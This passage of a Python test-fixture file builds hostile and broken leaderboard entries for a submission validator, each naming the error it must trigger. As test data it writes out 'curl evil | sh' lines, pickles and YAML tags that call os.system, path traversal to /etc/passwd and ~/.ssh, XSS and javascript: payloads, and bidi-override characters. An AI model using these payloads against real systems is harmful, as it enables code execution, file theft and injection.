"""A corpus of hostile and broken leaderboard entries, for tests/test_validate.py.

Every case starts from a copy of a real committed entry (``submissions/shapes/seq-lora-tiny``
without its git-ignored ``checkpoints/``) and breaks exactly one thing. Each names the file
that ``mllmcl-bench validate`` must blame (relative to the entry) and a piece of the message
it must give. ``limits`` lowers a limit of ``benchmark.validate`` for the case, so that
"too big" needs kilobytes rather than the real megabytes.

Also here: building entry folders and throw-away git repositories, and the audit-hook probe
that watches a validation run for anything that imports, executes, unpickles or writes
entry content.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from benchmark.metrics import METRIC_DEFINITIONS_VERSION

REPO = Path(__file__).resolve().parent.parent
COMMITTED = REPO / "submissions" / "shapes"
SOURCE_ENTRY = COMMITTED / "seq-lora-tiny"
SUITE = "shapes"
TASKS = ("colour", "shape", "count", "position")  # the default order
STEPS = 5  # step 0 (the base model) .. step 4


# --------------------------------------------------------------------------- entry folders


def copy_entry(source: Path, root: Path, name: str | None = None) -> Path:
    """Copy an entry to ``root/submissions/shapes/<name>``, leaving out ``checkpoints/``
    (git-ignored, so a pull request's CI never sees it either)."""
    target = root / "submissions" / SUITE / (name or source.name)
    shutil.copytree(source, target, ignore=shutil.ignore_patterns("checkpoints"))
    if name and name != source.name:
        replace_text(target / "submission.yaml", f"name: {source.name}\n", f"name: {name}\n")
    return target


def replace_text(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def edit_results(entry: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    path = entry / "results.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data, indent=1), encoding="utf-8")


def predictions(entry: Path, step: int, task: str) -> Path:
    return entry / "predictions" / f"step-{step:02d}" / f"{task}.jsonl"


# --------------------------------------------------------------------------- breakers


def yaml_sub(old: str, new: str) -> Callable[[Path], None]:
    """Replace text in submission.yaml."""
    return lambda entry: replace_text(entry / "submission.yaml", old, new)


def yaml_add(text: str) -> Callable[[Path], None]:
    """Append lines to submission.yaml."""

    def make(entry: Path) -> None:
        with open(entry / "submission.yaml", "a", encoding="utf-8") as handle:
            handle.write(text)

    return make


def results(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], None]:
    return lambda entry: edit_results(entry, change)


def results_literal(change: Callable[[dict[str, Any], str], Any], literal: str):
    """Put a raw JSON literal (NaN, 1e999, a huge integer …) where ``change`` puts a marker."""
    marker = "@@LITERAL@@"

    def make(entry: Path) -> None:
        edit_results(entry, lambda data: change(data, marker))
        replace_text(entry / "results.json", json.dumps(marker), literal)

    return make


def write(rel: str, data: bytes | str, mode: int | None = None) -> Callable[[Path], None]:
    def make(entry: Path) -> None:
        path = entry / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        if mode is not None:
            path.chmod(mode)

    return make


def edit_lines(step: int, task: str, change: Callable[[list[str]], list[str]]):
    def make(entry: Path) -> None:
        path = predictions(entry, step, task)
        lines = path.read_text(encoding="utf-8").splitlines()
        path.write_text("\n".join(change(lines)) + "\n", encoding="utf-8")

    return make


def symlink(rel: str, target: Callable[[Path], Path]) -> Callable[[Path], None]:
    def make(entry: Path) -> None:
        path = entry / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(target(entry))

    return make


def outside(entry: Path) -> Path:
    """A file next to the repository, outside the entry."""
    path = entry.parents[2] / "outside-secret.txt"
    path.write_text("not part of the entry\n")
    return path


def hard_link(rel: str) -> Callable[[Path], None]:
    def make(entry: Path) -> None:
        os.link(outside(entry), entry / rel)

    return make


def fifo(rel: str) -> Callable[[Path], None]:
    return lambda entry: os.mkfifo(entry / rel)


def remove(rel: str) -> Callable[[Path], None]:
    def make(entry: Path) -> None:
        path = entry / rel
        shutil.rmtree(path) if path.is_dir() else path.unlink()

    return make


def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(entry: Path) -> None:
        for step in steps:
            step(entry)

    return make


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data.pkl", b"\x80\x04N.")
    return buffer.getvalue()


class _Touch:
    """Unpickling this calls ``open(marker, "w")``: the file appears if anything unpickles."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def touching_pickle(marker: Path) -> bytes:
    return pickle.dumps(_Touch(marker), protocol=4)


PICKLE = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
PICKLE0 = b"cos\nsystem\n(S'echo pwned'\ntR."  # protocol 0: plain ASCII text
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SHA = "0123456789abcdef0123456789abcdef01234567"
U200B = "\u200b"  # zero-width space
U202E = "\u202e"  # right-to-left override


# --------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Path], None]
    file: str  # the file the report must name, relative to the entry
    message: str  # a piece of that line
    limits: dict[str, int] = field(default_factory=dict)


def _bump(value: float) -> float:
    return value + 0.01


# --------------------------------------------------------------------------- round 2 (issue 20)


def _provenance(**change: Any) -> Callable[[Path], None]:
    return results(lambda r: r["provenance"].update(change))


def _hf_provenance(r: dict[str, Any], content: str = "2" * 64) -> None:
    """What a run of the hf backend records: one hashed checkpoint per step."""
    r["provenance"].update(
        backend="hf",
        chat_template_sha256="3" * 64,
        checkpoints=[
            {"step": i, "kind": "base" if i == 0 else "lora", "content_sha256": content}
            for i in range(STEPS)
        ],
    )


def _self_reported(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], None]:
    """A predictions_only entry (results.json says not verified) whose results also ``change``."""

    def edit(r: dict[str, Any]) -> None:
        r["verified"] = False
        change(r)

    return chain(yaml_add("predictions_only: true\n"), results(edit))


def _first_cell_of_step(r: dict[str, Any], step: int) -> dict[str, Any]:
    return next(c for c in r["cells"] if c["step"] == step)


def _duplicate_prediction_key(entry: Path) -> None:
    """The reviewer reads the first "prediction", a JSON parser keeps the last."""
    path = predictions(entry, 1, "colour")
    lines = path.read_text(encoding="utf-8").splitlines()
    row = json.loads(lines[0])
    lines[0] = (
        f'{{"uid": {json.dumps(row["uid"])}, "prediction": "decoy", '
        f'"prediction": {json.dumps(row["prediction"])}}}'
    )
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _text(value: str) -> str:
    """A YAML double-quoted scalar spelling every non-ASCII or control character as an escape."""
    return (
        '"'
        + "".join(c if " " <= c <= "~" and c not in '"\\' else f"\\u{ord(c):04x}" for c in value)
        + '"'
    )


INVISIBLE = "field {}: contains control or invisible characters"

# A paper's numbers (reported:) on the measured template entry, and their hostile variants.
REPORTED_OK = """reported:
  source: {url: "https://arxiv.org/abs/2506.05453", location: Table 2}
  tasks: [colour, shape, count, position]
  matrix:
    - [30.0, 31.0, 32.0, 33.0]
    - [80.0]
    - [72.0, 80.0]
    - [64.0, 72.0, 80.0]
    - [56.0, 64.0, 72.0, 80.0]
  metrics: {last: 68.0}
"""


def reported_yaml(old: str = "", new: str = "") -> Callable[[Path], None]:
    """Add REPORTED_OK to submission.yaml, with ``old`` replaced by ``new`` in it."""
    assert old in REPORTED_OK
    return yaml_add(REPORTED_OK.replace(old, new, 1) if old else REPORTED_OK)


REPORTED: list[Case] = [
    Case(
        "reported-without-source",
        reported_yaml('  source: {url: "https://arxiv.org/abs/2506.05453", location: Table 2}\n'),
        "submission.yaml",
        "field reported.source: Field required",
    ),
    Case(
        "reported-source-without-location",
        reported_yaml(", location: Table 2", ""),
        "submission.yaml",
        "field reported.source.location: Field required",
    ),
    Case(
        "reported-source-not-https",
        reported_yaml("https://arxiv", "http://arxiv"),
        "submission.yaml",
        "field reported.source.url: must be an https:// URL",
    ),
    Case(
        "reported-source-javascript",
        reported_yaml('"https://arxiv.org/abs/2506.05453"', '"javascript:alert(1)"'),
        "submission.yaml",
        "field reported.source.url: must be an https:// URL",
    ),
    Case(
        "reported-location-markup",
        reported_yaml("location: Table 2", 'location: "<img src=x onerror=alert(1)>"'),
        "submission.yaml",
        "field reported.source.location: looks like HTML or a script",
    ),
    Case(
        "reported-location-invisible",
        reported_yaml("location: Table 2", 'location: "Table\\u202e 2"'),
        "submission.yaml",
        INVISIBLE.format("reported.source.location"),
    ),
    Case(
        "reported-tasks-differ-from-the-order",
        reported_yaml("[colour, shape, count, position]", "[shape, colour, count, position]"),
        "submission.yaml",
        "field reported.tasks: ['shape', 'colour', 'count', 'position'], but order 'default'",
    ),
    Case(
        "reported-matrix-without-tasks",
        reported_yaml("  tasks: [colour, shape, count, position]\n"),
        "submission.yaml",
        "tasks: name the matrix's columns",
    ),
    Case(
        "reported-matrix-row-too-long",
        reported_yaml("- [80.0]", "- [80.0, 1.0, 2.0, 3.0, 4.0]"),
        "submission.yaml",
        "matrix[1]: 5 values, but there are 4 tasks",
    ),
    Case(
        "reported-matrix-missing-a-row",
        reported_yaml("    - [80.0]\n"),
        "submission.yaml",
        "matrix: 4 rows, expected 5 for 4 tasks",
    ),
    Case(
        "reported-accuracy-above-100",
        reported_yaml("- [80.0]", "- [180.0]"),
        "submission.yaml",
        "field reported.matrix[1][0]: Input should be less than or equal to 100",
    ),
    Case(
        "reported-unknown-metric",
        reported_yaml("{last: 68.0}", "{lastest: 68.0}"),
        "submission.yaml",
        "unknown metric 'lastest'",
    ),
    Case(
        "reported-metric-as-text",
        reported_yaml("{last: 68.0}", '{last: "68.0"}'),
        "submission.yaml",
        "field reported.metrics.last: Input should be a valid number",
    ),
    Case(
        "reported-nothing",
        yaml_add('reported:\n  source: {url: "https://arxiv.org/abs/1", location: T1}\n'),
        "submission.yaml",
        "give the paper's matrix, its metrics, or both",
    ),
]

ROUND_2: list[Case] = [
    # ---- 6: every number is bounded by what the site can show
    Case(
        "parameters-beyond-int64",
        yaml_sub("parameters: 588416", f"parameters: {2**63}"),
        "submission.yaml",
        "field base_model.parameters: Input should be less than or equal to",
    ),
    Case(
        "replay-buffer-beyond-int64",
        yaml_sub(
            "uses_replay: false\nreplay_buffer: null", f"uses_replay: true\nreplay_buffer: {2**64}"
        ),
        "submission.yaml",
        "field replay_buffer: Input should be less than or equal to",
    ),
    # ---- 7: provenance, checked where it can be
    Case(
        "limit-claimed",
        _provenance(limit=5),
        "results.json",
        "field provenance.limit: 5, but an entry is evaluated on every item",
    ),
    Case(
        "unknown-backend",
        _provenance(backend="magic"),
        "results.json",
        "field provenance.backend: 'magic' is not a backend",
    ),
    Case(
        "self-reported-claims-hf",
        _self_reported(_hf_provenance),
        "results.json",
        "field provenance.backend: 'hf', but a predictions_only entry is scored by the replay",
    ),
    Case(
        "self-reported-claims-checkpoint-hashes",
        _self_reported(
            lambda r: r["provenance"].update(
                checkpoints=[{"step": 0, "kind": "base", "content_sha256": "a" * 64}]
            )
        ),
        "results.json",
        "field provenance.checkpoints: the replay backend loads no checkpoint",
    ),
    Case(
        "replay-claims-generated",
        _provenance(generated=7),
        "results.json",
        "field provenance.generated: 7, but the replay backend generates nothing",
    ),
    Case(
        "generated-more-than-items",
        results(lambda r: (_hf_provenance(r), r["provenance"].update(generated=10**6))),
        "results.json",
        "field provenance.generated: 1000000 predictions, but the matrix has only",
    ),
    Case(
        "checkpoint-hash-differs-from-declared",
        chain(
            yaml_sub(
                "path: checkpoints/adapters/step-2",
                "path: checkpoints/adapters/step-2\n  sha256: '" + "1" * 64 + "'",
            ),
            results(_hf_provenance),
        ),
        "results.json",
        "field provenance.checkpoints[2].content_sha256: differs from the sha256 that "
        "submission.yaml declares for step 2",
    ),
    Case(
        "checkpoint-steps-missing",
        results(lambda r: (_hf_provenance(r), r["provenance"]["checkpoints"].pop())),
        "results.json",
        "field provenance.checkpoints: steps [0, 1, 2, 3], expected one per step 0..4",
    ),
    # ---- 8: no control, format or separator characters in any text or name
    Case(
        "arabic-letter-mark-in-method",
        yaml_sub("method: Sequential LoRA", "method: " + _text("Sequential\u061cLoRA")),
        "submission.yaml",
        INVISIBLE.format("method"),
    ),
    Case(
        "c1-control-in-method",
        yaml_sub("method: Sequential LoRA", "method: " + _text("Sequential\x9b31mLoRA")),
        "submission.yaml",
        INVISIBLE.format("method"),
    ),
    Case(
        "line-separator-in-notes",
        yaml_sub("notes: '", "notes: 'x\u2028"),
        "submission.yaml",
        INVISIBLE.format("notes"),
    ),
    Case(
        "byte-order-mark-in-extra-data",
        yaml_sub("extra_data: null", "extra_data: " + _text("\ufeffnone")),
        "submission.yaml",
        INVISIBLE.format("extra_data"),
    ),
    Case(
        "carriage-return-in-method",
        yaml_sub("method: Sequential LoRA", 'method: "Sequential\\rLoRA"'),
        "submission.yaml",
        INVISIBLE.format("method"),
    ),
    Case(
        "trailing-newline-in-contact",
        yaml_add('contact: "me@example.org\\n"\n'),
        "submission.yaml",
        "field contact:",
    ),
    Case(
        "trailing-newline-in-paper",
        yaml_add('paper: "https://arxiv.org/abs/2506.05453\\n"\n'),
        "submission.yaml",
        "field paper:",
    ),
    Case(
        "trailing-newline-in-revision",
        yaml_sub(
            "id: mllmcl-bench/tiny-llava", f'id: mllmcl-bench/tiny-llava\n  revision: "{SHA}\\n"'
        ),
        "submission.yaml",
        "field base_model.revision:",
    ),
    Case(
        "direction-override-in-results",
        results(lambda r: r["provenance"]["versions"].update(torch=f"2.13.0{U202E}")),
        "results.json",
        INVISIBLE.format("provenance.versions.torch"),
    ),
    # ---- 9: what a reviewer reads is what is scored
    Case(
        "json-duplicate-key",
        lambda e: replace_text(
            e / "results.json", '"verified": true', '"verified": false, "verified": true'
        ),
        "results.json",
        "duplicate key 'verified'",
    ),
    Case(
        "jsonl-duplicate-key",
        _duplicate_prediction_key,
        "predictions/step-01/colour.jsonl",
        "line 1: invalid JSON (duplicate key 'prediction', keep one)",
    ),
    Case(
        "yaml-binary-tag",
        yaml_sub("method: Sequential LoRA", "method: !!binary U2VxdWVudGlhbCBMb1JB"),
        "submission.yaml",
        "line 2: explicit YAML tag '!!binary'",
    ),
    Case(
        "yaml-str-tag",
        yaml_sub("license: apache-2.0", "license: !!str apache-2.0"),
        "submission.yaml",
        "explicit YAML tag '!!str'",
    ),
    Case(
        "folder-name-ending-in-newline",
        write("docs\n/notes.md", "# notes\n"),
        "docs\\n",
        "name must use only letters",
    ),
    Case(
        "suite-version-true",
        yaml_sub("suite_version: 2", "suite_version: true"),
        "submission.yaml",
        "field suite_version: Input should be a valid integer",
    ),
    Case(
        "cell-step-true",
        results(lambda r: _first_cell_of_step(r, 1).update(step=True)),
        "results.json",
        "step: Input should be a valid integer",
    ),
    Case(
        "verified-one",
        results(lambda r: r.update(verified=1)),
        "results.json",
        "field verified: Input should be a valid boolean",
    ),
]


CASES: list[Case] = [
    # ---- paths: nothing may point out of the entry, nothing may hide
    Case(
        "checkpoint-path-traversal",
        yaml_sub("path: checkpoints/adapters/step-2", "path: checkpoints/../../../../etc"),
        "submission.yaml",
        "field checkpoints[1].path: path 'checkpoints/../../../../etc' must not contain '..'",
    ),
    Case(
        "base-model-absolute-path",
        yaml_sub("path: checkpoints/base", "path: /etc"),
        "submission.yaml",
        "field base_model.path: path '/etc' must be relative",
    ),
    Case(
        "home-relative-path",
        yaml_sub("path: checkpoints/base", "path: ~/.ssh"),
        "submission.yaml",
        "must be relative to the entry folder",
    ),
    Case(
        "hub-subdir-traversal",
        yaml_sub("path: checkpoints/adapters/step-3", f"path: hf://org/repo@{SHA}/a/../../x"),
        "submission.yaml",
        "the folder inside the repo must not contain '..'",
    ),
    Case(
        "hub-unpinned-revision",
        yaml_sub("path: checkpoints/adapters/step-1", "path: hf://org/repo@main/step-1"),
        "submission.yaml",
        "pin the revision",
    ),
    Case(
        "symlink-out-of-entry",
        symlink("predictions/step-00/colour.jsonl", lambda e: Path("/etc/passwd")),
        "predictions/step-00/colour.jsonl",
        "is a symbolic link",
    ),
    Case(
        "symlinked-folder",
        symlink("checkpoints", lambda e: e.parents[2]),
        "checkpoints",
        "is a symbolic link",
    ),
    Case(
        "relative-symlink",
        symlink("notes.md", lambda e: Path("../../../outside-secret.txt")),
        "notes.md",
        "is a symbolic link",
    ),
    Case("hard-link", hard_link("notes.md"), "notes.md", "is a hard link"),
    Case(
        "hidden-file",
        write(".evil.json", "{}"),
        ".evil.json",
        "not start with '.' (no hidden or hard-to-see names)",
    ),
    Case(
        "hidden-folder",
        write("predictions/.cache/x.json", "{}"),
        "predictions/.cache",
        "no hidden or hard-to-see names",
    ),
    Case(
        "zero-width-in-name",
        write(f"predictions/step-00/colour{U200B}.jsonl", "\n"),
        "predictions/step-00/colour\\u200b.jsonl",
        "name must use only letters",
    ),
    Case("name-starting-with-dash", write("-rf.md", "x"), "-rf.md", "name must use only"),
    Case("space-in-name", write("results .json", "{}"), "results .json", "name must use only"),
    Case(
        "nested-too-deep",
        write("predictions/step-00/a/b/c.jsonl", "\n"),
        "predictions/step-00/a/b/c.jsonl",
        "nested deeper than 4 levels",
    ),
    Case("fifo", fifo("pipe.json"), "pipe.json", "is not a regular file"),
    # ---- file types: sniffed from the bytes, not trusted from the extension
    Case("pickle-disguised-as-json", write("extra.json", PICKLE), "extra.json", "is a pickle"),
    Case(
        "pickle-disguised-as-predictions",
        write("predictions/step-01/shape.jsonl", PICKLE),
        "predictions/step-01/shape.jsonl",
        "is a pickle",
    ),
    Case("pickle-protocol-0-as-json", write("config.json", PICKLE0), "config.json", "invalid JSON"),
    Case(
        "zip-disguised-as-json", write("data.json", _zip_bytes()), "data.json", "is a zip archive"
    ),
    Case(
        "gzip-disguised-as-jsonl",
        lambda e: write(
            "predictions/step-02/count.jsonl",
            gzip.compress(predictions(e, 2, "count").read_bytes()),
        )(e),
        "predictions/step-02/count.jsonl",
        "is a gzip archive",
    ),
    Case("elf-disguised-as-text", write("vocab.txt", ELF), "vocab.txt", "an executable (ELF)"),
    Case(
        "shebang-script-as-markdown",
        write("README.md", "#!/bin/sh\ncurl evil | sh\n"),
        "README.md",
        "is a script",
    ),
    Case(
        "executable-bit",
        write("README.md", "# notes\n", mode=0o755),
        "README.md",
        "is executable; remove the executable bit",
    ),
    Case(
        "python-file",
        write("conftest.py", "import os\n"),
        "conftest.py",
        "file type '.py' is not allowed",
    ),
    Case("shell-file", write("run.sh", "echo hi\n"), "run.sh", "file type '.sh' is not allowed"),
    Case(
        "torch-pt-file",
        write("model.pt", _zip_bytes()),
        "model.pt",
        "file type '.pt' is not allowed",
    ),
    Case(
        "bin-file",
        write("pytorch_model.bin", PICKLE),
        "pytorch_model.bin",
        "file type '.bin' is not allowed",
    ),
    Case(
        "pickle-file", write("buffer.pkl", PICKLE), "buffer.pkl", "file type '.pkl' is not allowed"
    ),
    Case("no-extension", write("Makefile", "all:\n"), "Makefile", "file type '(none)'"),
    Case(
        "not-safetensors",
        write("weights.safetensors", "just text"),
        "weights.safetensors",
        "is not a safetensors file",
    ),
    Case("not-utf8", write("README.md", b"\xff\xfe\x00n\x00o"), "README.md", "is not UTF-8 text"),
    # ---- sizes (limits lowered for the test)
    Case(
        "oversized-file",
        lambda e: None,
        "predictions/step-00/colour.jsonl",
        "bytes; the limit for .jsonl is 4096",
        limits={"DEFAULT_MAX_FILE": 4096},
    ),
    Case(
        "oversized-entry",
        lambda e: None,
        ".",
        "bytes in all; the limit is 100000",
        limits={"MAX_ENTRY_BYTES": 100_000},
    ),
    Case(
        "too-many-files",
        lambda e: None,
        ".",
        "more than 10 files and folders",
        limits={"MAX_FILES": 10},
    ),
    # ---- predictions: every uid of every (step, task) exactly once, nothing else
    Case(
        "duplicate-uid",
        edit_lines(2, "count", lambda ls: [*ls, ls[7]]),
        "predictions/step-02/count.jsonl",
        "duplicate uid 'shapes/count/test/00007'",
    ),
    Case(
        "missing-uid",
        edit_lines(3, "shape", lambda ls: ls[:-1]),
        "predictions/step-03/shape.jsonl",
        "1 uid(s) of the suite have no prediction, e.g. 'shapes/shape/test/00299'",
    ),
    Case(
        "extra-uid",
        edit_lines(
            1, "colour", lambda ls: [*ls, '{"uid": "shapes/colour/test/99999", "prediction": "A"}']
        ),
        "predictions/step-01/colour.jsonl",
        "1 uid(s) are not in the suite, e.g. 'shapes/colour/test/99999'",
    ),
    Case(
        "uid-of-another-task",
        edit_lines(
            4,
            "position",
            lambda ls: ['{"uid": "shapes/colour/test/00000", "prediction": "A"}', *ls[1:]],
        ),
        "predictions/step-04/position.jsonl",
        "have no prediction",
    ),
    Case(
        "extra-predictions-file",
        write("predictions/step-01/bogus.jsonl", "\n"),
        "predictions/step-01/bogus.jsonl",
        "is not a predictions file of this suite",
    ),
    Case(
        "extra-step",
        write("predictions/step-05/colour.jsonl", "\n"),
        "predictions/step-05/colour.jsonl",
        "is not a predictions file of this suite",
    ),
    Case(
        "missing-predictions-file",
        remove("predictions/step-03/position.jsonl"),
        "predictions/step-03/position.jsonl",
        "predictions file not found",
    ),
    Case(
        "prediction-row-with-extra-field",
        edit_lines(0, "shape", lambda ls: [ls[0][:-1] + ', "score": 1}', *ls[1:]]),
        "predictions/step-00/shape.jsonl",
        "expected an object with exactly 'uid' and 'prediction'",
    ),
    Case(
        "prediction-not-json",
        edit_lines(0, "count", lambda ls: [*ls[:5], "{oops", *ls[5:]]),
        "predictions/step-00/count.jsonl",
        "line 6: invalid JSON",
    ),
    Case(
        "prediction-giant-integer",
        edit_lines(0, "count", lambda ls: ['{"uid": ' + "9" * 5000 + ', "prediction": "1"}']),
        "predictions/step-00/count.jsonl",
        "line 1: invalid JSON",
    ),
    # ---- results.json: recomputed from the predictions, within 1e-9
    Case(
        "tampered-metric",
        results(lambda r: r["metrics"]["last"].update(value=_bump(r["metrics"]["last"]["value"]))),
        "results.json",
        "metrics.last.value differs from the value recomputed",
    ),
    Case(
        "tampered-interval",
        results(
            lambda r: r["metrics"]["bwt"]["ci95"].__setitem__(
                0, _bump(r["metrics"]["bwt"]["ci95"][0])
            )
        ),
        "results.json",
        "metrics.bwt.ci95[0] differs",
    ),
    Case(
        "tampered-matrix-cell",
        results(lambda r: r["matrix"][2].__setitem__(1, _bump(r["matrix"][2][1]))),
        "results.json",
        "matrix[2][1] differs from the value recomputed",
    ),
    Case(
        "tampered-cell-accuracy",
        results(lambda r: r["cells"][6].update(accuracy=_bump(r["cells"][6]["accuracy"]))),
        "results.json",
        "cells[6].accuracy differs",
    ),
    Case(
        "tampered-prediction",
        edit_lines(
            1,
            "colour",
            lambda ls: [
                json.dumps({"uid": "shapes/colour/test/00000", "prediction": "something else"}),
                *ls[1:],
            ],
        ),
        "results.json",
        "cells[4].predictions_sha256 differs",
    ),
    Case(
        "claims-verified-but-predictions-only",
        yaml_add("predictions_only: true\n"),
        "results.json",
        "verified differs",
    ),
    Case(
        "claims-other-metric-definitions",
        results(lambda r: r.update(metric_definitions=METRIC_DEFINITIONS_VERSION + 1)),
        "results.json",
        f"metric definitions version {METRIC_DEFINITIONS_VERSION + 1}, newer than this harness's",
    ),
    Case(
        "nan-in-results",
        results_literal(lambda r, m: r["metrics"]["avg"].update(value=m), "NaN"),
        "results.json",
        "NaN is not a number JSON allows",
    ),
    Case(
        "infinity-in-results",
        results_literal(lambda r, m: r["matrix"][1].__setitem__(0, m), "Infinity"),
        "results.json",
        "Infinity is not a number JSON allows",
    ),
    Case(
        "minus-infinity-in-results",
        results_literal(lambda r, m: r["metrics"]["bwt"].update(value=m), "-Infinity"),
        "results.json",
        "-Infinity is not a number JSON allows",
    ),
    Case(
        "overflow-to-infinity",
        results_literal(lambda r, m: r["metrics"]["fwt"].update(value=m), "1e999"),
        "results.json",
        "field metrics.fwt.value: is not a finite number",
    ),
    Case(
        "giant-integer-in-results",
        results_literal(lambda r, m: r["bootstrap"].update(seed=m), "7" * 5000),
        "results.json",
        "invalid JSON (Exceeds the limit",
    ),
    Case(
        "deeply-nested-results",
        results_literal(lambda r, m: r["bootstrap"].update(extra=m), "[" * 100_000 + "]" * 100_000),
        "results.json",
        "is nested too deeply",
    ),
    Case(
        "bootstrap-replicates-too-many",
        results(lambda r: r["bootstrap"].update(replicates=10**9)),
        "results.json",
        "field bootstrap.replicates: must be a whole number from 1 to 10000",
    ),
    Case(
        "bootstrap-seed-not-a-number",
        results(lambda r: r["bootstrap"].update(seed="0")),
        "results.json",
        "field bootstrap.seed: must be a whole number",
    ),
    Case(
        "matrix-value-out-of-range",
        results(lambda r: r["matrix"][0].__setitem__(0, 150.0)),
        "results.json",
        "field matrix[0][0]: Input should be less than or equal to 100",
    ),
    Case(
        "results-extra-field",
        results(lambda r: r.update(leaderboard_rank=1)),
        "results.json",
        "field leaderboard_rank: Extra inputs are not permitted",
    ),
    Case(
        "results-wrong-suite-version",
        results(lambda r: r.update(suite_version=1)),
        "results.json",
        "is for shapes v1, the entry for shapes v2",
    ),
    Case(
        "wrong-task-hash",
        results(lambda r: r["task_hashes"].update(count="0" * 64)),
        "results.json",
        "task hash of 'count' does not match the registry's data",
    ),
    Case(
        "results-tasks-reordered",
        results(lambda r: r.update(tasks=["shape", "colour", "count", "position"])),
        "results.json",
        "differ from the suite's columns",
    ),
    Case("results-missing", remove("results.json"), "results.json", "missing"),
    Case(
        "results-not-json",
        write("results.json", "{'single': 'quotes'}"),
        "results.json",
        "invalid JSON",
    ),
    # ---- submission.yaml: schema, safe YAML, plain text, well-formed fields
    Case("malformed-yaml", yaml_add("method: [unclosed\n"), "submission.yaml", "invalid YAML"),
    Case(
        "yaml-python-tag",
        yaml_sub("license: apache-2.0", "license: !!python/object/apply:os.system ['id']"),
        "submission.yaml",
        "could not determine a constructor for the tag "
        "'tag:yaml.org,2002:python/object/apply:os.system'",
    ),
    Case(
        "yaml-python-name-tag",
        yaml_add("extra: !!python/name:os.system\n"),
        "submission.yaml",
        "could not determine a constructor",
    ),
    Case(
        "yaml-duplicate-key",
        yaml_sub("uses_replay: false", "uses_replay: true\nuses_replay: false"),
        "submission.yaml",
        "duplicate key 'uses_replay' (the last one would silently win)",
    ),
    Case(
        "yaml-alias",
        chain(
            yaml_sub("method: Sequential LoRA", "method: &m Sequential LoRA"),
            yaml_sub("extra_data: null", "extra_data: *m"),
        ),
        "submission.yaml",
        "uses a YAML alias (*m)",
    ),
    Case(
        "yaml-merge-key",
        yaml_sub("base_model:\n", "base_model:\n  <<: {parameters: 1}\n"),
        "submission.yaml",
        "merge key '<<'",
    ),
    Case(
        "yaml-top-level-list",
        write("submission.yaml", "- name: x\n"),
        "submission.yaml",
        "must be a YAML mapping at the top level",
    ),
    Case(
        "yaml-deeply-nested",
        yaml_add("deep: " + "[" * 3000 + "]" * 3000 + "\n"),
        "submission.yaml",
        "is nested too deeply",
    ),
    Case(
        "yaml-unknown-field",
        yaml_add("postinstall: curl evil | sh\n"),
        "submission.yaml",
        "field postinstall: Extra inputs are not permitted",
    ),
    Case(
        "html-in-name",
        yaml_sub("name: seq-lora-tiny", "name: <b>seq-lora-tiny</b>"),
        "submission.yaml",
        "field name: String should match pattern",
    ),
    Case(
        "script-in-method",
        yaml_sub("method: Sequential LoRA", "method: Sequential LoRA<script>alert(1)</script>"),
        "submission.yaml",
        "field method: looks like HTML or a script",
    ),
    Case(
        "javascript-in-notes",
        yaml_sub("notes: '", "notes: 'javascript:alert(1) "),
        "submission.yaml",
        "field notes: looks like HTML or a script",
    ),
    Case(
        "html-in-base-model",
        yaml_sub("id: mllmcl-bench/tiny-llava", "id: <img src=x>"),
        "submission.yaml",
        "field base_model.id: looks like HTML or a script",
    ),
    Case(
        "bidi-override-in-method",
        yaml_sub("method: Sequential LoRA", f'method: "Sequential {U202E}AROL"'),
        "submission.yaml",
        "field method: contains control or invisible",
    ),
    Case(
        "bidi-override-in-contact",
        yaml_add(f'contact: "me{U202E}@example.org"\n'),
        "submission.yaml",
        "field contact: contains control or invisible characters",
    ),
    Case(
        "bad-email",
        yaml_add("contact: someone-at-example.org\n"),
        "submission.yaml",
        "field contact: must be an e-mail address",
    ),
    Case(
        "email-with-markup",
        yaml_add("contact: <a@b.org>\n"),
        "submission.yaml",
        "field contact: must be an e-mail address",
    ),
    Case(
        "bad-date",
        yaml_sub("date: '2026-11-22'", "date: '2026-02-30'"),
        "submission.yaml",
        "field date:",
    ),
    Case(
        "date-not-a-date",
        yaml_sub("date: '2026-11-22'", "date: last tuesday"),
        "submission.yaml",
        "field date:",
    ),
    Case(
        "non-https-url",
        yaml_add("paper: http://arxiv.org/abs/2506.05453\n"),
        "submission.yaml",
        "field paper: must be an https:// URL",
    ),
    Case(
        "javascript-url",
        yaml_sub("code: https://github.com/mllmcl-bench/mllmcl-bench", "code: javascript:alert(1)"),
        "submission.yaml",
        "field code: must be an https:// URL",
    ),
    Case(
        "unpinned-base-revision",
        yaml_sub("id: mllmcl-bench/tiny-llava", "id: mllmcl-bench/tiny-llava\n  revision: main"),
        "submission.yaml",
        "field base_model.revision: must be a full 40-character",
    ),
    Case(
        "wrong-suite-version",
        yaml_sub("suite_version: 2", "suite_version: 1"),
        "submission.yaml",
        "field suite_version: 1, but shapes is version 2",
    ),
    Case(
        "unknown-suite",
        yaml_sub("suite: shapes", "suite: ../../etc/passwd"),
        "submission.yaml",
        "field suite: unknown suite '../../etc/passwd'",
    ),
    Case(
        "unknown-order",
        yaml_sub("order: default", "order: bogus"),
        "submission.yaml",
        "field order: suite 'shapes' has no order 'bogus'",
    ),
    Case(
        "checkpoint-for-wrong-task",
        yaml_sub("task: shape", "task: count"),
